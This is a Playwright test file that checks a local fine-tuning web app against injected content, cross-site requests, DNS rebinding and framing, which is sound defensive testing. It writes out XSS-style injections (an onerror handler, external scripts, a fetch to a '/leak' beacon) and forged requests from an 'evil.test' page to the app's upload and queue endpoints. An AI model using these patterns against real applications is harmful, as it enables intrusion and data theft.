"""What a page of somebody else can do to the app of whoever has both open in one browser: nothing."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.sync_api import Browser, Page, expect
from synthetic_runs import events_of, write

from ft.dataset.build import save, stage
from ft.dataset.sample import sample_file
from ft.ui.strings import TAB_LABELS

pytestmark = pytest.mark.slow
LONG = 120_000  # milliseconds that an answer may take on a busy machine


@pytest.fixture(scope="module")
def filled_app(app):
    """An app with a dataset and a run with curves."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("SIDETUNE_HOME", str(app.home))
        save(stage([sample_file()]), "sample")
    write(app.home, "good", events_of(lambda epoch: 4 - epoch, lambda epoch: 4 - epoch / 2))
    return app


@pytest.fixture
def watched(browser: Browser, filled_app) -> Iterator[tuple[Page, list[str], list[str]]]:
    """A page of the app, the addresses elsewhere that it asked for, and the refusals of its policy."""
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    page = context.new_page()
    page.set_default_timeout(LONG)
    elsewhere: list[str] = []
    refused: list[str] = []
    local = (filled_app.url, "data:", "blob:", "about:")
    page.on("request", lambda request: None if request.url.startswith(local) else elsewhere.append(request.url))
    page.on("console", lambda said: refused.append(said.text) if "Content Security Policy" in said.text else None)
    yield page, elsewhere, refused
    context.close()


class Elsewhere(BaseHTTPRequestHandler):
    """A web site of somebody else; `paths` are those that were asked for."""

    paths: list[str]

    def log_message(self, *given: object) -> None:
        """Say nothing."""

    def do_GET(self) -> None:
        self.paths.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "text/javascript" if self.path.endswith(".js") else "text/html")
        self.end_headers()
        self.wfile.write(b"window.ran = true" if self.path.endswith(".js") else b"<!doctype html><h1>Kittens</h1>")


@pytest.fixture
def elsewhere() -> Iterator[tuple[int, list[str]]]:
    """The port of that site, and what it was asked for."""
    paths: list[str] = []
    server = ThreadingHTTPServer(("127.0.0.1", 0), type("Site", (Elsewhere,), {"paths": paths}))
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server.server_address[1], paths
    server.shutdown()
    server.server_close()
    thread.join()


@pytest.fixture
def victim(browser_with) -> Page:
    """A page of a browser for which every name under .test is this machine."""
    page = browser_with("--host-resolver-rules=MAP *.test 127.0.0.1").new_page()
    page.set_default_timeout(LONG)
    return page


def test_the_page_asks_no_other_host_and_keeps_to_its_policy_on_all_tabs(filled_app, watched):
    page, elsewhere, refused = watched
    page.goto(f"{filled_app.url}/?tab=data&dataset=sample")
    for tab, label in TAB_LABELS.items():
        page.get_by_role("tab", name=label, exact=True).click()
        expect(page.locator(f"#tab-{tab}")).to_be_visible(timeout=LONG)
    expect(page.locator("#tab-runs .vega-embed canvas, #tab-runs .vega-embed svg").first).to_be_visible(timeout=LONG)
    assert elsewhere == []
    assert refused == []


def test_what_got_into_the_page_neither_runs_nor_loads_from_elsewhere(filled_app, watched, elsewhere):
    port, asked = elsewhere
    page, _, refused = watched
    page.goto(f"{filled_app.url}/?tab=data&dataset=sample")
    expect(page.get_by_role("tab", name=TAB_LABELS["data"])).to_be_visible()
    page.evaluate(
        """(site) => {
            const hole = document.body.appendChild(document.createElement("div"));
            hole.innerHTML = `<img src="${site}/beacon.png"><img src="x" onerror="window.ran = true">
                <link rel="stylesheet" href="${site}/a.css"><iframe src="${site}/frame"></iframe>`;
            for (const [name, value] of [["src", `${site}/a.js`], ["textContent", "window.ran = true"]]) {
                const script = document.createElement("script");
                script[name] = value;
                hole.append(script);
            }
            return fetch(`${site}/leak`, {mode: "no-cors"}).catch(() => null);
        }""",
        f"http://127.0.0.1:{port}",
    )
    page.wait_for_timeout(1000)
    assert asked == []
    assert page.evaluate("window.ran") is None
    assert len(refused) >= 6


def test_a_page_elsewhere_reads_and_does_nothing(app, victim, elsewhere):
    port, _ = elsewhere
    victim.goto(f"http://evil.test:{port}/")
    names = ("x.localhost", "localhost.", "127.0.0.1", "localhost")
    reached = victim.evaluate(
        """async (apps) => {
            const join = {data: [], fn_index: 0, session_hash: "evil", api_name: "datasets"};
            const files = new FormData();
            files.append("files", new Blob(["[]"]), "evil.json");
            const asked = apps.flatMap((app) => [
                fetch(app + "/config", {credentials: "include"}),
                fetch(app + "/gradio_api/info"),
                fetch(app + "/gradio_api/queue/join", {
                    method: "POST", body: JSON.stringify(join), headers: {"Content-Type": "application/json"},
                }),
                fetch(app + "/gradio_api/queue/join", {method: "POST", body: JSON.stringify(join)}),
                fetch(app + "/gradio_api/upload", {method: "POST", body: files, mode: "no-cors"}),
            ]);
            const ended = await Promise.allSettled(asked);
            return ended.filter((end) => end.status === "fulfilled" && end.value.type !== "opaque").length;
        }""",
        [f"http://{name}:{app.port}" for name in names],
    )
    assert reached == 0
    assert [path.name for path in (app.home / "cache").rglob("*.json")] == []


def test_a_name_that_was_pointed_at_this_machine_is_not_answered(app, victim):
    answer = victim.goto(f"http://evil.test:{app.port}/")
    assert answer is not None and answer.status == 403
    assert "--allow-host evil.test" in victim.inner_text("body")


def test_a_page_elsewhere_cannot_show_the_app_in_a_frame(app, victim, elsewhere):
    port, _ = elsewhere
    victim.goto(f"http://evil.test:{port}/")
    victim.evaluate(
        """(app) => new Promise((loaded) => {
            const frame = document.createElement("iframe");
            frame.onload = loaded;
            frame.src = app;
            document.body.append(frame);
        })""",
        app.url,
    )
    (frame,) = victim.main_frame.child_frames
    assert frame.url.startswith("chrome-error:") or "only sidetune" in frame.inner_text("body").lower()


def test_a_link_elsewhere_opens_the_page(app, victim, elsewhere):
    port, _ = elsewhere
    victim.goto(f"http://evil.test:{port}/")
    victim.evaluate("(app) => { location.href = app; }", f"{app.url}/?tab=runs")
    expect(victim.get_by_role("tab", name=TAB_LABELS["runs"])).to_be_visible()
